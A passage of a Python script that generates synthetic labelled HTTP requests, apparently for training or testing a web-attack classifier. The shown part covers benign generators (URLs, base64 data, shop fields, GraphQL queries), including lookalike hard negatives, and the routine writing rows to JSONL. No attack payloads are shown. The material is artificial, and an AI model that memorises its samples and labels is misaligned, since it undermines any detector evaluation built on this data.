                ri(0, 20),
                ri(0, 9),
                pick(["index", "cdn", "bundle"]),
            ),
            True,
            None,
            param=pick(["src", "url"]),
        )
    )
    L.append(
        lambda: A(
            "https://%s.s3.%s.amazonaws.com/%s/%s.%s?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA%s%%2F%s%%2F%s%%2Fs3%%2Faws4_request&X-Amz-Date=%sT%06dZ&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=%s"
            % (
                pick(["media-prod", "user-uploads"]),
                pick(["eu-west-1", "us-east-1"]),
                ri(2020, 2026),
                tok(),
                pick(["pdf", "png"]),
                "".join(R.choice(string.ascii_uppercase) for _ in range(16)),
                date().replace("-", ""),
                pick(["eu-west-1", "us-east-1"]),
                date().replace("-", ""),
                ri(0, 235959),
                hexs(64),
            ),
            True,
            None,
            param=pick(["url", "file_url"]),
        )
    )
    L.append(
        lambda: A(
            "https://%s/oauth/callback?code=%s&state=%s" % (pick(APP_HOSTS), tok(20, 30), b64u(rbytes(16))),
            False,
            None,
            param="redirect_uri",
        )
    )
    L.append(
        lambda: A(
            "http://%s:%d/callback" % (pick(["localhost", "127.0.0.1"]), pick([3000, 5173, 8080, 8400, 53682])),
            True,
            None,
            param=pick(["redirect_uri", "callback_url"]),
        )
    )
    L.append(lambda: A("http://[::1]:%d/auth/callback" % pick([8080, 9004]), True, None, param="redirect_uri"))
    L.append(
        lambda: A(
            "https://maps.google.com/?q=%s,%s" % (round(R.uniform(-60, 70), 5), round(R.uniform(-170, 170), 5)),
            False,
            None,
            param=pick(["url", "link"]),
        )
    )
    L.append(
        lambda: A(
            "https://forum.%s/viewtopic.php?t=%d&start=%d"
            % (
                pick(["linuxmint.example", "openmw.example", "rpgmakerweb.example"]),
                ri(1000, 99999),
                pick([0, 15, 30]),
            ),
            True,
            None,
            param=pick(["url", "link"]),
        )
    )
    L.append(
        lambda: A(
            "https://%s/download.php?file=%s.pdf"
            % (pick(["www.irs.example", "docs.example.edu"]), pick(["f1040", "syllabus", "brochure"])),
            True,
            None,
            param=pick(["url", "href"]),
        )
    )
    L.append(
        lambda: A(
            "https://www.google.com/url?q=https://%s/%s&sa=D&source=editors&ust=%d"
            % (pick(LEGIT_HOSTS), pick(SLUGS), ts() * 1000),
            True,
            None,
            param="url",
        )
    )
    L.append(
        lambda: A(
            "https://%s/%s?utm_source=%s&utm_medium=email&utm_campaign=%s"
            % (pick(APP_HOSTS), pick(SLUGS), pick(["newsletter", "crm"]), pick(WORDS)),
            False,
            None,
            param=pick(["url", "link"]),
        )
    )
    L.append(
        lambda: A(
            "https://%s/feed.xml" % pick(["blog.northwind-labs.io", "news.ycombinator.com", "www.theverge.com"])
            if R.random() < 0.5
            else "https://%s/rss"
            % pick(["feeds.bbci.co.uk/news", "www.reddit.com/r/%s/.rss" % pick(["python", "gardening"])]),
            False,
            None,
            param="feed_url",
        )
    )
    L.append(
        lambda: A(
            "https://%s/%s#%s"
            % (
                pick(["en.wikipedia.org/wiki", "developer.mozilla.org/en-US/docs/Web/API"]),
                pick(["Union_(set_theory)", "Document/cookie", "Window/alert", "Element/script"]),
                pick(["Examples", "Syntax", "See_also"]),
            ),
            True,
            None,
            param=pick(["url", "href"]),
        )
    )
    L.append(
        lambda: A(
            "https://%s.xn--%s.com/" % (pick(["shop", "www"]), tok(4, 8))
            if R.random() < 0.3
            else "https://münchen.de/%s" % pick(["veranstaltungen", "rathaus"]),
            True,
            None,
            param="url",
        )
    )
    L.append(
        lambda: A(
            "https://images.unsplash.com/photo-%d-%s?w=%d&q=80&auto=format"
            % (ri(10**12, 10**13), hexs(12), pick([400, 800, 1600])),
            False,
            None,
            param="image_url",
        )
    )
    L.append(lambda: A("https://%s%s" % (pick(APP_HOSTS), pick(REFS)), False, ["header"], hdr="Referer"))
    L.append(
        lambda: A("https://%s/sitemap-%d.xml" % (pick(APP_HOSTS), ri(1, 20)), False, ["xml", "query"], param="loc")
    )
    L.append(
        lambda: A(
            "https://%s/%s/%s" % (pick(APP_HOSTS), pick(["invite", "share", "s"]), b64u(rbytes(9))),
            False,
            None,
            param=pick(["link", "url"]),
        )
    )
    L.append(
        lambda: A(
            "https://calendar.google.com/calendar/render?action=TEMPLATE&text=%s&dates=%sT100000Z/%sT110000Z"
            % (quote(pick(["Team sync", "1:1"])), date().replace("-", ""), date().replace("-", "")),
            True,
            None,
            param="url",
        )
    )
    return L


def g_b_b64():
    L = []
    PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
    L.append(
        lambda: A(
            "data:image/png;base64," + b64(PNG + rbytes(ri(40, 160))),
            False,
            None,
            param=pick(["avatar", "image", "thumbnail"]),
        )
    )
    L.append(
        lambda: A(
            "data:image/jpeg;base64," + b64(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + rbytes(ri(40, 160))),
            False,
            None,
            param=pick(["image", "photo"]),
        )
    )
    L.append(
        lambda: A(
            b64(
                b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
                + rbytes(ri(30, 120))
            ),
            False,
            None,
            param=pick(["content", "file", "data"]),
        )
    )
    L.append(lambda: A(jwt(), False, None, param=pick(["token", "id_token", "access_token"])))
    L.append(lambda: A("Bearer " + jwt(), False, ["header"], hdr="Authorization"))
    L.append(
        lambda: A(
            "Basic " + b64("%s@%s:%s" % (first(), pick(MAIL_DOMAINS), tok(12, 20))),
            False,
            ["header"],
            hdr="Authorization",
        )
    )
    L.append(
        lambda: A(
            "ssh-ed25519 "
            + b64(b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00 " + rbytes(32))
            + " "
            + first()
            + "@"
            + pick(["laptop", "mbp", "workstation"]),
            True,
            None,
            param="key",
        )
    )
    L.append(
        lambda: A(
            "-----BEGIN CERTIFICATE-----\n"
            + "\n".join(b64(rbytes(48)) for _ in range(ri(4, 8)))
            + "\n-----END CERTIFICATE-----",
            True,
            ["json", "form", "multipart", "xml"],
            param=pick(["certificate", "cert"]),
        )
    )
    L.append(lambda: A(b64u(rbytes(ri(16, 48))), False, None, param=pick(["cursor", "state", "nonce", "continuation"])))
    L.append(
        lambda: A(
            b64(compact({"page": ri(2, 40), "sort": pick(["created", "price"]), "dir": pick(["asc", "desc"])})),
            False,
            None,
            param="cursor",
        )
    )
    L.append(lambda: A(b64u(b"\x04" + rbytes(64)), False, ["json"], param="p256dh"))
    L.append(
        lambda: A(
            b64(
                (
                    "%s,%s,%s\n" % ("id", "email", "plan")
                    + "".join(
                        "%d,%s,%s\n" % (ri(1, 9999), email_addr(), pick(["free", "pro"])) for _ in range(ri(2, 4))
                    )
                ).encode()
            ),
            True,
            None,
            param=pick(["csv", "file"]),
        )
    )
    L.append(
        lambda: A(
            b64(rbytes(ri(32, 96))),
            False,
            ["cookie", "header", "query"],
            param=pick(["session", "remember_token"]),
            hdr=pick(["X-Session", "X-Device-Token"]),
        )
    )
    L.append(lambda: A(hexs(64), False, None, param=pick(["sha256", "checksum", "digest"])))
    L.append(
        lambda: A(
            b64(
                '<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16"><circle cx="8" cy="8" r="%d" fill="#%s"/></svg>'
                % (ri(3, 8), hexs(6))
            ),
            True,
            None,
            param="icon",
        )
    )
    L.append(
        lambda: A(
            "data:application/json;base64," + b64(compact({"v": ri(1, 3), "name": pick(WORDS), "ts": ts()})),
            True,
            None,
            param="blob",
        )
    )
    return L


def g_b_commerce():
    L = []
    L.append(
        lambda: A(
            "SKU-%d-%s" % (ri(1000, 9999), pick(["BLK", "WHT", "NVY", "RED", "L", "XL"])), False, None, param="sku"
        )
    )
    L.append(
        lambda: A(
            pick(
                [
                    "SAVE20",
                    "WELCOME-10",
                    "BLACKFRIDAY",
                    "FREESHIP",
                    "SPRING%d" % ri(10, 50),
                    "VIP-%s" % tok(4, 4).upper(),
                ]
            )
            + str(ri(1, 99)),
            False,
            None,
            param="coupon",
        )
    )
    L.append(
        lambda: A(
            "%d %s, Apt #%d%s"
            % (
                ri(1, 999),
                pick(["Maple Ave", "Harbour Rd", "Elm St.", "O'Connell St", "Rue de l'Église"]),
                ri(1, 40),
                pick("ABCD"),
            ),
            True,
            None,
            param="address1",
        )
    )
    L.append(
        lambda: A(
            pick(
                [
                    "Please leave at back door; ring bell twice.",
                    "Gift - no prices on the packing slip please!",
                    "If not home, leave with neighbour at #%d." % ri(1, 99),
                    "Deliver after 5pm (work 9-5).",
                    "Fragile - contains glass & ceramics.",
                    "Call on arrival: +44 20 7946 %04d" % ri(0, 9999),
                ]
            ),
            True,
            None,
            param="note",
        )
    )
    L.append(lambda: A(pick(PRODUCTS), True, None, param="product"))
    L.append(
        lambda: A(
            "Happy birthday %s!\nLove, %s & the kids xx" % (first().title(), first().title()),
            True,
            None,
            param="gift_message",
        )
    )
    L.append(
        lambda: OBJ(
            {
                "sku": "SKU-%d" % ri(1000, 9999),
                "qty": ri(1, 6),
                "options": {"size": pick(["S", "M", "L", "42", "10.5"]), "color": pick(["Navy", "Sand", "Olive"])},
            },
            False,
            ["json"],
            param="item",
        )
    )
    L.append(
        lambda: OBJ(
            {
                "items": [{"sku": "SKU-%d" % ri(1000, 9999), "qty": ri(1, 3)} for _ in range(ri(1, 3))],
                "currency": pick(["EUR", "USD", "GBP", "JPY"]),
                "shipping": pick(["standard", "express", "pickup"]),
            },
            False,
            ["json"],
            whole=True,
        )
    )
    L.append(
        lambda: (
            A(str(ri(1, 12)), False, ["query", "form"], param="qty")
            if R.random() < 0.15
            else A(
                "%d.%02d" % (ri(1, 999), ri(0, 99)),
                False,
                ["query", "form", "json"],
                param=pick(["price_max", "price_min", "amount"]),
            )
        )
    )
    L.append(
        lambda: A(
            pick(
                [
                    "attributes[color]",
                    "attributes[size]",
                    "properties[Engraving]",
                    "items[0][quantity]",
                    "line_items[1][id]",
                    "options[gift_wrap]",
                ]
            ),
            True,
            ["query_key", "form"],
            key=True,
            kval=pick(["red", "M", "For Ana <3", "2", "yes"]),
        )
    )
    L.append(
        lambda: A(
            "%s %s" % (pick(["Wool rug", "Monitor", "TV", "Frame"]), pick(["6' x 9'", '32"', '55" 4K', '8" x 10"'])),
            True,
            None,
            param=pick(["q", "product"]),
        )
    )
    L.append(
        lambda: A(
            pick(["/products/", "/p/"])[1:]
            + pick(["oak-table", "union-jack-mug", "select-pillow", "drop-earrings", "script-pen-set", "exec-chair"])
            + "-"
            + str(ri(100, 999)),
            True,
            ["path"],
            path=pick(["/products", "/p"]),
        )
    )
    L.append(
        lambda: A(
            "|".join("SKU%d" % ri(1000, 9999) for _ in range(ri(2, 5))), False, ["cookie"], param="recently_viewed"
        )
    )
    L.append(
        lambda: (
            A(pick(["EUR", "USD", "GBP", "CHF", "JPY", "BRL"]), False, ["cookie", "query"], param="currency")
            if R.random() < 0.3
            else A(
                "%s, %s %s" % (pick(CITIES), "%05d" % ri(1000, 99999), pick(["PT", "JP", "CA", "PL", "US"])),
                False,
                None,
                param="address2",
            )
        )
    )
    L.append(
        lambda: A(
            "Order #%d - %d item(s) - %s%d.%02d"
            % (ri(1000, 99999), ri(1, 9), pick(["$", "EUR ", "GBP "]), ri(1, 999), ri(0, 99)),
            False,
            ["xml", "multipart", "json"],
            param="summary",
        )
    )
    return L


GQL_Q = [
    "query GetUser($id: ID!) {\n  user(id: $id) {\n    id\n    name\n    email\n    avatarUrl(size: <<n>>)\n  }\n}",
    "query Products($first: Int = <<n>>, $after: String) { products(first: $first, after: $after) { edges { node { id title priceRange { minVariantPrice { amount currencyCode } } } } pageInfo { hasNextPage endCursor } } }",
    "mutation AddToCart($cartId: ID!, $lines: [CartLineInput!]!) { cartLinesAdd(cartId: $cartId, lines: $lines) { cart { id totalQuantity } userErrors { field message } } }",
    "query Repo($owner: String!, $name: String!) { repository(owner: $owner, name: $name) { issues(last: <<n>>, states: OPEN) { nodes { number title author { login } } } } }",
    "fragment UserParts on User { id name }\nquery Team($slug: String!) { team(slug: $slug) { members(first: <<n>>) { ...UserParts } } }",
    "query Feed($withComments: Boolean!) { feed(limit: <<n>>) { id body comments @include(if: $withComments) { id text } } }",
    "mutation UpdateProfile($input: UpdateProfileInput!) { updateProfile(input: $input) { user { id bio } errors { path message } } }",
    "query Search($q: String!) { search(query: $q, type: ISSUE, first: <<n>>) { issueCount nodes { ... on Issue { title url } ... on PullRequest { title } } } }",
    "query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { name kind } } }",
    "{ viewer { login repositories(first: <<n>>, orderBy: {field: UPDATED_AT, direction: DESC}) { nodes { name } } } }",
    "query Order($id: ID!) { order(id: $id) { id status lineItems(first: <<n>>) { edges { node { title quantity } } } shippingAddress { city country } } }",
    "subscription OnMessage($room: ID!) { messageAdded(roomId: $room) { id text sentAt author { name } } }",
    'query { __type(name: "Product") { fields { name type { name kind } } } }',
    "mutation DeleteComment($id: ID!) { deleteComment(id: $id) { success } }",
]


def g_b_graphql():
    L = []

    def gq():
        q = S(pick(GQL_Q), n=pick([5, 10, 20, 25, 50, 100]))
        hard = "__schema" in q or "__type" in q or "..." in q or "mutation" in q
        if R.random() < 0.3:
            q = q.replace("\n", " ").replace("  ", " ")
        return A(q, hard, ["json", "query", "form"], param="query")

    for _ in range(6):
        L.append(gq)

    def variables():
        v = pick(
            [
                {"id": uuid4()},
                {"first": ri(5, 50), "after": b64u(rbytes(12))},
                {"q": pick(SEARCH[:12] + ["label:bug is:open"])},
                {"input": {"bio": prose()[:80], "website": "https://%s" % pick(LEGIT_HOSTS)}},
                {"owner": pick(["acme", "octo-org"]), "name": pick(["web", "api"])},
                {
                    "cartId": "gid://shopify/Cart/%s" % tok(20, 26),
                    "lines": [
                        {"merchandiseId": "gid://shopify/ProductVariant/%d" % ri(10**9, 10**10), "quantity": ri(1, 3)}
                    ],
                },
                {"withComments": R.random() < 0.5},
            ]
        )
        return OBJ(
            v, "input" in v or "q" in v, ["json", "query"], param="variables", path=pick(["/graphql", "/api/graphql"])
        )

    L.append(variables)
    L.append(variables)
    L.append(
        lambda: OBJ(
            {"persistedQuery": {"version": 1, "sha256Hash": hexs(64)}}, False, ["json", "query"], param="extensions"
        )
    )
    L.append(
        lambda: OBJ(
            {
                "query": "mutation %s($file: Upload!) { %s(file: $file) { id url } }"
                % (
                    pick(["UploadAvatar", "AttachReceipt", "AddPhoto"]),
                    pick(["uploadAvatar", "attachReceipt", "addPhoto"]),
                ),
                "variables": {"file": None},
                "operationName": None,
            },
            False,
            ["multipart"],
            param="operations",
            mfile=(
                "0",
                "%s.%s" % (pick(["avatar", "receipt", "IMG_%04d" % ri(1, 9999)]), pick(["png", "jpg"])),
                "image/png",
                "\x89PNG\r\n\x1a\n" + tok(8, 16),
            ),
        )
    )
    return L


BENIGN_GENS = [
    ("benign_api_json", g_b_api),
    ("benign_headers", g_b_headers),
    ("benign_paths", g_b_paths),
    ("benign_search", g_b_search),
    ("benign_prose", g_b_prose),
    ("benign_richtext", g_b_richtext),
    ("benign_markdown", g_b_markdown),
    ("benign_code", g_b_code),
    ("benign_templates", g_b_templates),
    ("benign_email", g_b_email),
    ("benign_ldap_like", g_b_ldap),
    ("benign_urls", g_b_urls),
    ("benign_base64", g_b_b64),
    ("benign_commerce", g_b_commerce),
    ("benign_graphql", g_b_graphql),
]


# ==========================================================================
# main
# ==========================================================================


def gen_items(templates, n, seen, cat):
    items = []
    order = list(range(len(templates)))
    R.shuffle(order)
    i = 0
    misses = 0
    while len(items) < n:
        t = templates[order[i % len(order)]]
        i += 1
        for _ in range(25):
            it = t()
            if it["payload"] not in seen and it["payload"]:
                break
        else:
            misses += 1
            if misses > 20 * len(templates):
                raise RuntimeError("cannot fill %s: %d/%d" % (cat, len(items), n))
            continue
        seen.add(it["payload"])
        items.append(it)
    return items


def assign_placements(cat, items):
    w = WEIGHTS[cat]
    used = {k: 0 for k in w}
    out = []
    for it in items:
        cands = [pl for pl in w if compatible(it, pl, cat)]
        if not cands:
            cands = [pl for pl in (it.get("places") or []) if compatible(it, pl, cat)]
            for pl in cands:
                used.setdefault(pl, 0)
        if not cands:
            raise RuntimeError("no placement for %s %r" % (cat, it["payload"][:80]))
        ranked = sorted(cands, key=lambda pl: (used[pl] + 1) / w.get(pl, 0.3) + R.random() * 0.5)
        choice = ranked[0]
        used[choice] += 1
        out.append(choice)
    return out


def make_rows():
    rows = []
    seen_a, seen_b = set(), set()
    for cat, gen in ATTACK_GENS:
        items = gen_items(gen(), N_ATTACK, seen_a, cat)
        pls = assign_placements(cat, items)
        terse = [True] * N_TERSE + [False] * (N_ATTACK - N_TERSE)
        R.shuffle(terse)
        for i, (it, pl, te) in enumerate(zip(items, pls, terse), 1):
            method, path, query, headers, body = build(cat, "attack", it, pl, te)
            row = {
                "id": "%s-a-%s-%04d" % (SRC, cat, i),
                "label": "attack",
                "category": cat,
                "method": method,
                "path": path,
                "query": query,
                "headers": headers,
                "body": body,
                "placement": pl,
                "payload": it["payload"],
                "hard": bool(it["hard"]),
                "source": SRC,
            }
            check_row(row, it)
            rows.append(row)
    for cat, gen in BENIGN_GENS:
        items = gen_items(gen(), N_BENIGN, seen_b, cat)
        pls = assign_placements(cat, items)
        for i, (it, pl) in enumerate(zip(items, pls), 1):
            te = R.random() < 0.2
            method, path, query, headers, body = build(cat, "benign", it, pl, te)
            row = {
                "id": "%s-b-%s-%04d" % (SRC, cat, i),
                "label": "benign",
                "category": cat,
                "method": method,
                "path": path,
                "query": query,
                "headers": headers,
                "body": body,
                "placement": pl,
                "payload": it["payload"],
                "hard": bool(it["hard"]),
                "source": SRC,
            }
            check_row(row, it)
            rows.append(row)
    return rows


def main():
    rows = make_rows()
    data = "".join(json.dumps(r, ensure_ascii=True) + "\n" for r in rows)
    with open(OUT, "w", encoding="utf-8", newline="\n") as f:
        f.write(data)
    counts = {}
    for r in rows:
        counts[r["category"]] = counts.get(r["category"], 0) + 1
    print("wrote %d rows to %s" % (len(rows), OUT))
    print("sha256 %s" % hashlib.sha256(data.encode("utf-8")).hexdigest())
    for k, v in counts.items():
        print("  %-16s %d" % (k, v))


if __name__ == "__main__":
    main()
